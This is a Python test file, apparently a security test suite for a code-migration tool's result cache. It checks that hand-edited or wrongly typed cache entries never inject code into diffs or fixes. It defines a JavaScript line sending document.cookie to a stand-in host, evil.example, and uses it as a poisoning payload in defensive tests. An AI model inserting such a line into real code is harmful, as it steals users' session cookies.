"""Attack suite, the result cache (issue 20): its directory is part of the attacker's tree.

A hand-edited entry never puts code into `check --diff | patch -p1`, JSON `fix_diff` or SARIF
fixes (the fix is kept as line ranges applied to the file's own text, and signed with a key that
lives outside the tree); a wrongly typed entry is a miss, never a crash or a wrong report; and the
cache is pruned (older entries of a file, files that are gone, other formats, a size cap).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from drmigrate import cache as cache_module
from drmigrate.cache import Cache
from drmigrate.config import Settings
from drmigrate.pipeline import process_paths
from drmigrate.runner import make_config
from tests.attacklib import LEGACY, assert_one_line_errors, run, write

EVIL = "fetch('https://evil.example/?'+document.cookie);"


def _entries(cache: Path) -> list[Path]:
    return sorted(p for p in cache.rglob("*.json") if p.is_file())


def _poison(value: object) -> object:
    """Every string in an entry that holds fixed code, with a line of the attacker's added."""
    if isinstance(value, str) and "sessionId" in value:
        return value.replace("sessionId", f"{EVIL}\nsessionId")
    if isinstance(value, list):
        return [_poison(v) for v in value]
    if isinstance(value, dict):
        return {k: _poison(v) for k, v in value.items()}
    return value


@pytest.mark.parametrize("args", [("--diff",), ("--format", "json"), ("--format", "sarif"), ("--format", "html")])
def test_a_hand_edited_entry_never_reaches_a_diff_or_a_fix(tmp_path: Path, args: tuple[str, ...]) -> None:
    project, cache = tmp_path / "p", tmp_path / "cache"
    write(project, {"a.js": LEGACY, "b.js": LEGACY.replace("wireTransfer", "payco")})
    plain = run("check", "--no-cache", *args, ".", cwd=project)
    run("check", "--cache-dir", str(cache), *args, ".", cwd=project)
    entries = _entries(cache)
    assert entries
    poisoned = 0
    for entry in entries:
        data = json.loads(entry.read_text())
        bad = _poison(data)
        poisoned += bad != data
        entry.write_text(json.dumps(bad))
    assert poisoned, "the entries hold the fixes in some form"
    again = run("check", "--cache-dir", str(cache), *args, ".", cwd=project)
    assert_one_line_errors(again)
    assert b"evil.example" not in again.stdout and b"evil.example" not in again.stderr
    assert again.returncode == plain.returncode
    if args != ("--format", "sarif"):  # SARIF names the working directory: the rest is compared above
        assert again.stdout == plain.stdout


def test_entries_signed_with_another_key_are_misses(tmp_path: Path) -> None:
    project, cache = tmp_path / "p", tmp_path / "cache"
    write(project, {"a.js": LEGACY})
    run("check", "--diff", "--cache-dir", str(cache), ".", cwd=project, extra_env={"DRMIGRATE_CACHE_KEY": "mine"})
    entries = _entries(cache)
    stamps = [e.stat().st_mtime_ns for e in entries]
    time.sleep(0.01)
    done = run("check", "--diff", "--cache-dir", str(cache), ".", cwd=project,
               extra_env={"DRMIGRATE_CACHE_KEY": "theirs"})
    assert done.returncode == 1 and b"+digitalriver.createSource" in done.stdout
    assert [e.stat().st_mtime_ns for e in entries] != stamps  # analysed again and rewritten


BAD_RESULTS = [
    pytest.param("findings", "not a list", id="findings-as-string"),
    pytest.param("findings.0.span", ["a", "b"], id="span-as-strings"),
    pytest.param("findings.0.span", [10_000_000, 10_000_001], id="span-outside-the-text"),
    pytest.param("findings.0.code", "DR999", id="unknown-code"),
    pytest.param("findings.0.message", {"x": 1}, id="message-as-object"),
    pytest.param("findings.0.line", 7, id="stored-line-is-not-used"),
    pytest.param("sites.0.state", "done", id="unknown-state"),
    pytest.param("leftovers", [[1]], id="short-leftover"),
    pytest.param("status", "fixed", id="a-fix-from-the-cache"),
    pytest.param("changes", [[0, 0, EVIL]], id="unsigned-changes-on-a-check-entry"),
]


@pytest.mark.parametrize(("path", "value"), BAD_RESULTS)
def test_wrongly_typed_entries_are_misses_not_crashes(tmp_path: Path, path: str, value: object) -> None:
    project, cache = tmp_path / "p", tmp_path / "cache"
    write(project, {"a.js": LEGACY})
    for fmt in ("text", "sarif"):
        plain = run("check", "--no-cache", "--format", fmt, ".", cwd=project)
        run("check", "--format", fmt, "--cache-dir", str(cache), ".", cwd=project)
        for entry in _entries(cache):
            data = json.loads(entry.read_text())
            node = data["result"]
            *parents, last = path.split(".")
            for part in parents:
                node = node[int(part)] if isinstance(node, list) else node[part]
            if isinstance(node, list):
                node[int(last)] = value
            else:
                node[last] = value
            entry.write_text(json.dumps(data))
        again = run("check", "--format", fmt, "--cache-dir", str(cache), ".", cwd=project)
        assert_one_line_errors(again)
        assert again.returncode == plain.returncode
        if fmt == "text":
            assert again.stdout == plain.stdout
        else:
            assert json.loads(again.stdout)["runs"][0]["results"] == json.loads(plain.stdout)["runs"][0]["results"]


def _results(paths: list[str], cache: Cache, root: Path) -> None:
    process_paths(paths, make_config(), Settings(root=root), fixing=False, want_fixes=False, jobs=1,
                  show_progress=False, cache=cache)


def test_the_cache_is_pruned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path, {f"src/f{i}.js": LEGACY.replace("1", str(i)) for i in range(6)})
    directory = tmp_path / "cache"
    entries_dir = directory / cache_module.ENTRIES
    _results(["src"], Cache(directory), tmp_path)  # the first run also sweeps (nothing to do)
    assert len(_entries(directory)) == 6 and (entries_dir / ".swept").exists()
    for version in range(4):  # four more versions of one file; no sweep within a day
        (tmp_path / "src" / "f0.js").write_text(LEGACY + f"// v{version}\n")
        _results(["src"], Cache(directory), tmp_path)
        time.sleep(0.02)
    assert len(_entries(directory)) == 10
    (tmp_path / "src" / "f5.js").unlink()  # a file that is gone
    (directory / "v3").mkdir()  # an older format's entries
    (directory / "v3" / "x.json").write_text("{}")
    stray = entries_dir / ".x.123.tmp"
    stray.write_text("half")
    os.utime(stray, (time.time() - 7200, time.time() - 7200))
    _results(["src"], Cache(directory), tmp_path)  # nothing written: no sweep
    assert len(_entries(directory)) == 10 + 1  # (the v3 entry)
    day_ago = time.time() - 2 * cache_module.SWEEP_EVERY
    os.utime(entries_dir / ".swept", (day_ago, day_ago))
    (tmp_path / "src" / "f0.js").write_text(LEGACY + "// v4\n")
    _results(["src"], Cache(directory), tmp_path)  # writes one entry, and sweeps
    left = _entries(directory)
    paths = sorted(json.loads(p.read_text())["path"] for p in left)
    assert paths == ["src/f0.js", "src/f0.js", "src/f1.js", "src/f2.js", "src/f3.js", "src/f4.js"]
    assert not (directory / "v3").exists() and not stray.exists()
    newest = [json.loads(p.read_text())["key"] for p in left if "f0" in json.loads(p.read_text())["path"]]
    assert len(newest) == 2
    # a size cap of nothing: every entry goes, the oldest first
    assert Cache(directory).prune(max_bytes=1) == 6 and _entries(directory) == []


def test_the_size_cap_drops_the_oldest_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path, {f"src/f{i}.js": LEGACY.replace("1", str(i)) for i in range(8)})
    directory = tmp_path / "cache"
    _results(["src"], Cache(directory), tmp_path)
    entries = _entries(directory)
    for age, entry in enumerate(entries):
        os.utime(entry, (time.time() - 1000 + age, time.time() - 1000 + age))
    size = sum(e.stat().st_size for e in entries)
    removed = Cache(directory).prune(max_bytes=size // 2)
    left = _entries(directory)
    assert removed == len(entries) - len(left) and sum(e.stat().st_size for e in left) <= size * 3 // 8 + 1
    assert left == entries[-len(left):]  # the newest stay


@pytest.mark.parametrize("content", ["[" * 100_000 + "]" * 100_000, '{"version": ' + "9" * 5000 + "}",
                                     '{"skeletons": {"a": 1}, "answers": []}', "\xff"])
def test_a_poisoned_project_index_is_ignored(tmp_path: Path, content: str) -> None:
    from drmigrate.pipeline import INDEX_BLOB

    project = tmp_path / "p"
    write(project, {"src/a.js": "import {p} from './b.js';\ndigitalriver.createSource(p);\n",
                    "src/b.js": "export const p = {type: 'payPal', amount: 1, payPal: {}};\n"})
    (project / ".git").mkdir()
    plain = run("check", "--no-cache", ".", cwd=project)
    assert b"src/b.js" in plain.stdout  # the payload was followed into the other module
    run("check", ".", cwd=project)
    blob = project / ".drmigrate_cache" / cache_module.ENTRIES / INDEX_BLOB
    assert blob.exists()  # the project index keeps its answers there
    blob.write_bytes(content.encode("utf-8", "surrogateescape") if content != "\xff" else b"\xff")
    again = run("check", ".", cwd=project)
    assert_one_line_errors(again)
    assert (again.returncode, again.stdout) == (plain.returncode, plain.stdout)
